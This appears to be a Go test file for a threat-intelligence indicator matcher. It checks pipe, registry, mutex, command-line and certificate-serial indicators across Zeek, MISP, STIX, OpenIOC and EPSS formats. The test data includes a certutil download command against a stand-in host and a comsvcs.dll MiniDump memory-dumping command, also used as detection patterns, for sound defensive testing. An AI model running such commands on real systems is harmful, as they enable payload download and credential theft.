package intel

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"longwatch/internal/cert"
	"longwatch/internal/finding"
	"longwatch/internal/record"
	"longwatch/internal/record/host"
)

// TestNamesOfWindows: pipes, registry keys, mutexes, pieces of command lines and
// serial numbers, over the records that sensors make of them.
func TestNamesOfWindows(t *testing.T) {
	set, report := load(t, zeekFile(
		`\\.\pipe\Postex_4f21`+"\tIntel::PIPE\tS\tF\td",
		`HKEY_LOCAL_MACHINE\SOFTWARE\Wow6432Node\Updater7\Config`+"\tIntel::REGISTRY_KEY\tS\tF\td",
		`HKCU\Software\Microsoft\Windows\CurrentVersion\Run|Fabulous`+"\tIntel::REGISTRY_KEY\tS\tF\td",
		`HKLM\SYSTEM\ControlSet001\Services\netsvc9|"C:\ProgramData\n9.exe" -k`+"\tIntel::REGISTRY_KEY\tS\tF\td",
		`Software\Oddity\State`+"\tIntel::REGISTRY_KEY\tS\tF\td",
		`HKLM\Software\Microsoft\Windows\CurrentVersion\Run`+"\tIntel::REGISTRY_KEY\tS\tF\td",
		`Global\M0squito_77`+"\tIntel::MUTEX\tS\tF\td",
		`-urlcache  -split -f`+"\tIntel::COMMAND_LINE\tS\tF\td",
		`comsvcs.dll, MiniDump`+"\tIntel::COMMAND_LINE\tS\tF\td",
		"08:BB:00:EE\tIntel::CERT_SERIAL\tS\tF\td",
		"146473199\tIntel::CERT_SERIAL\tS\tF\td",
	))
	if report.Refused != 0 || report.Loaded != 11 {
		t.Fatalf("report = %+v", report)
	}
	tests := []struct {
		name string
		r    record.Record
		want string // value of the indicator; empty for silence
	}{
		{"pipe that was made", &host.Pipe{Action: "created", Name: `\postex_4f21`}, "postex_4f21"},
		{"pipe over the network", &host.ShareAccess{Share: `\\*\IPC$`, Path: "postex_4f21"}, "postex_4f21"},
		{"file of that name", &host.ShareAccess{Share: `\\*\Data`, Path: "postex_4f21"}, ""},
		{"pipe that begins alike", &host.Pipe{Name: `\postex_4f21a`}, ""},
		{"key, 64-bit view, value joined", &host.Registry{Action: "set", Key: `HKLM\SOFTWARE\Updater7\Config\Beacon`, Value: "60"}, `hklm\software\updater7\config`},
		{"key as the kernel names it", &host.Registry{Key: `\REGISTRY\MACHINE\SOFTWARE\WOW6432Node\Updater7\Config`}, `hklm\software\updater7\config`},
		{"key that is longer by letters", &host.Registry{Key: `HKLM\SOFTWARE\Updater7\Configuration`}, ""},
		{"named entry among the autostarts of a user", &host.Registry{Key: `HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\Fabulous`, Value: `C:\x.exe`}, `hkcu\software\microsoft\windows\currentversion\run|fabulous`},
		{"another entry there", &host.Registry{Key: `HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive`, Value: `C:\x.exe`}, ""},
		{"data of a service", &host.Registry{Key: `HKLM\System\CurrentControlSet\Services\netsvc9\ImagePath`, Value: `"C:\ProgramData\N9.exe"  -k`}, `hklm\system\currentcontrolset\services\netsvc9|"c:\programdata\n9.exe" -k`},
		{"other data of that service", &host.Registry{Key: `HKLM\System\CurrentControlSet\Services\netsvc9\ImagePath`, Value: `C:\Windows\system32\svchost.exe -k netsvcs`}, ""},
		{"key without hive", &host.Registry{Key: `HKU\S-1-5-21-1-2-3-1001\Software\Oddity\State\x`}, `software\oddity\state`},
		{"mutex whose opening is audited", &host.ObjectAccess{Kind: "Mutant", Object: `\Sessions\1\BaseNamedObjects\M0squito_77`}, "M0squito_77"},
		{"event of that name", &host.ObjectAccess{Kind: "Event", Object: `\BaseNamedObjects\M0squito_77`}, ""},
		{"mutex in other case", &host.ObjectAccess{Kind: "Mutant", Object: `\BaseNamedObjects\m0squito_77`}, ""},
		{"piece of a command line", &host.Process{CommandLine: "certutil.exe  -URLCACHE -split   -f http://203.0.113.7/a a.exe"}, "-urlcache -split -f"},
		{"piece of a service's program", &host.Service{Path: `rundll32 C:\windows\system32\comsvcs.dll, MiniDump 600 x full`}, "comsvcs.dll, minidump"},
		{"ordinary use of the same program", &host.Process{CommandLine: "certutil.exe -verify -urlfetch site.cer"}, ""},
		{"pieces apart", &host.Process{CommandLine: "certutil.exe -urlcache show -split -f"}, ""},
		{"serial number", &cert.Record{Serial: "08BB00EE"}, "08bb00ee"},
		{"serial number, given in decimal", &cert.Record{Serial: "08BB00EF"}, "08bb00ef"},
		{"serial number that ends alike", &cert.Record{Serial: "1108BB00EE"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []finding.Finding
			for _, f := range matches(set, tt.r) {
				if f.Severity > finding.Info {
					got = append(got, f)
				}
			}
			if tt.want == "" {
				if len(got) != 0 {
					t.Fatalf("found %v", got[0].Why)
				}
				return
			}
			if len(got) != 1 || !strings.Contains(got[0].Why[0], fmt.Sprintf("indicator %q", tt.want)) {
				t.Fatalf("findings = %+v, want one for %q", got, tt.want)
			}
		})
	}
	t.Run("key that many programs use", func(t *testing.T) {
		got := matches(set, &host.Registry{Key: `HKLM\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive`, Value: "x"})
		if len(got) != 1 || got[0].Severity != finding.Info || got[0].Confidence != 0 {
			t.Errorf("findings = %+v, want one without weight", got)
		}
	})
}

func TestNamesThatSayTooLittle(t *testing.T) {
	for kind, values := range map[Kind][]string{
		Pipe: {`\\.\pipe\`, "msse-*-server"}, Mutex: {"", "abc*"}, CommandLine: {"-enc", "   \t  "}, Serial: {"01", "zz11223344", strings.Repeat("ab", 30)}, RegistryKey: {`\`, `HKLM\Software\*\Run`},
	} {
		for _, v := range values {
			if _, key, _, err := normal(kind, v); err == nil {
				t.Errorf("%v %q is taken as %q", kind, v, key)
			}
		}
	}
}

// TestWhereNamesComeFrom: the same kinds out of the formats that carry them.
func TestWhereNamesComeFrom(t *testing.T) {
	tests := []struct{ file, text, want string }{
		{"misp.json", `{"Event":{"info":"i","Orgc":{"name":"O"},"Attribute":[
			{"type":"named pipe","value":"\\\\.\\pipe\\abcd1234"},{"type":"mutex","value":"Local\\Mx1"},{"type":"regkey","value":"HKLM\\Software\\Bad"},
			{"type":"regkey|value","value":"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run|Bad"}],
			"Object":[{"name":"process","Attribute":[{"type":"text","object_relation":"command-line","value":"rundll32 bad.dll,Go"}]},
			{"name":"x509","Attribute":[{"type":"text","object_relation":"serial-number","value":"00:AA:BB:CC:DD:EE:01"}]}]}}`,
			`command_line rundll32 bad.dll,go|mutex Mx1|pipe abcd1234|registry_key hkcu\software\microsoft\windows\currentversion\run|bad|registry_key hklm\software\bad|serial aabbccddee01`},
		{"stix.json", `{"type":"bundle","id":"bundle--1","objects":[
			{"type":"indicator","id":"indicator--1","pattern_type":"stix","pattern":"[mutex:name = 'Mx2' OR windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\Software\\\\Bad2']"},
			{"type":"indicator","id":"indicator--2","pattern_type":"stix","pattern":"[x509-certificate:serial_number = '36:f7:d4:32:f4:ab:70:ea']"}]}`,
			`mutex Mx2|registry_key hklm\software\bad2|serial 36f7d432f4ab70ea`},
		{"ioc.xml", `<ioc><definition><Indicator operator="OR">
			<IndicatorItem><Context search="RegistryItem/KeyPath"/><Content>HKEY_CURRENT_USER\Software\Bad3</Content></IndicatorItem>
			<IndicatorItem><Context search="ProcessItem/HandleList/Handle/Name"/><Content>\BaseNamedObjects\Mx3</Content></IndicatorItem>
			<IndicatorItem><Context search="ProcessItem/arguments"/><Content>/c start bad3</Content></IndicatorItem></Indicator></definition></ioc>`,
			`command_line /c start bad3|mutex Mx3|registry_key hkcu\software\bad3`},
		{"list.txt", "\\\\.\\pipe\\bad4\nHKLM\\Software\\Bad4 value\nHKEY_USERS\\.DEFAULT\\Software\\Bad4\n", `pipe bad4|registry_key hklm\software\bad4 value|registry_key hku\.default\software\bad4`},
	}
	for _, tt := range tests {
		set, report := load(t, map[string]string{tt.file: tt.text})
		var got []string
		for i := range set.All {
			got = append(got, i.Kind.String()+" "+i.Value)
		}
		slices.Sort(got)
		if strings.Join(got, "|") != tt.want {
			t.Errorf("%s: got %q\nwant %q\n%v", tt.file, strings.Join(got, "|"), tt.want, report.Reasons)
		}
	}
}

func TestEPSS(t *testing.T) {
	set, report := load(t, map[string]string{"epss_scores.csv": "#model_version:v2025.03.14,score_date:2026-01-02T00:00:00+0000\ncve,epss,percentile\nCVE-2025-0001,0.94321,0.99887\nCVE-2025-0002,0.00042,0.05100\nnonsense,0.1,0.2\n"})
	if report.Loaded != 2 || report.Refused != 1 || report.Files[0].Format != "epss" {
		t.Fatalf("report = %+v", report)
	}
	got := set.Lookup("cve-2025-0001")
	if len(got) != 1 || got[0].Source != "EPSS" || got[0].Desc != "probability of being exploited within 30 days: 0.94321, percentile 0.99887, model v2025.03.14" || got[0].Weight != None {
		t.Errorf("got %+v", got)
	}
	if day := got[0].Seen.End.Std().UTC().Format("2006-01-02"); day != "2026-01-02" {
		t.Errorf("scored on %s", day)
	}
}

// TestReach: what can be compared with nothing is told.
func TestReach(t *testing.T) {
	set, _ := load(t, map[string]string{
		"a.intel": zeekHead + "Mx\tIntel::MUTEX\tS\tF\td\n1.2.3.4\tIntel::ADDR\tS\tF\td\nCVE-2025-0001\tIntel::CVE\tS\tF\td\n",
		"b.json":  `{"type":"bundle","id":"b","objects":[{"type":"indicator","id":"i","pattern_type":"stix","pattern":"[autonomous-system:number = 64500]"}]}`,
	})
	got := set.Unjudged([]*record.Type{lookupType, host.ProcessType})
	want := []string{"mutex indicators (1): no record here holds one", "patterns about autonomous-system (1): no record here becomes such an object"}
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	if got := set.Unjudged([]*record.Type{lookupType, host.ObjectAccessType}); len(got) != 1 {
		t.Errorf("with audited objects: %q", got)
	}
}

// FuzzFragments compares the automaton with looking for one piece after another.
func FuzzFragments(f *testing.F) {
	f.Add("abcdef\nbcdefg\ncdef", "xxABCDEFGxx")
	f.Add("a b\nb  c", "a  b\tc")
	f.Add("aaaaaa\naaaaaaa\naaaaaaaa", strings.Repeat("a", 40))
	f.Fuzz(func(t *testing.T, list, text string) {
		if len(list) > 4096 || len(text) > 4096 {
			return
		}
		var keys [][]byte
		var rows []uint32
		for p := range strings.SplitSeq(list, "\n") {
			key := bytes.TrimSpace(appendFolded(nil, p))
			if len(key) > 0 && !slices.ContainsFunc(keys, func(k []byte) bool { return bytes.Equal(k, key) }) {
				keys, rows = append(keys, key), append(rows, uint32(len(rows)))
			}
		}
		sortFragments(keys, rows)
		var got, want []uint32
		newFragments(keys, rows).find(text, func(r uint32) { got = append(got, r) })
		folded := appendFolded(nil, text)
		for i, k := range keys {
			if bytes.Contains(folded, k) {
				want = append(want, rows[i])
			}
		}
		slices.Sort(got)
		slices.Sort(want)
		if len(want) > maxFragmentsFound {
			if len(got) != maxFragmentsFound {
				t.Fatalf("found %d of %d, want the first %d", len(got), len(want), maxFragmentsFound)
			}
			return
		}
		if !slices.Equal(got, want) {
			t.Fatalf("found %v, want %v", got, want)
		}
	})
}
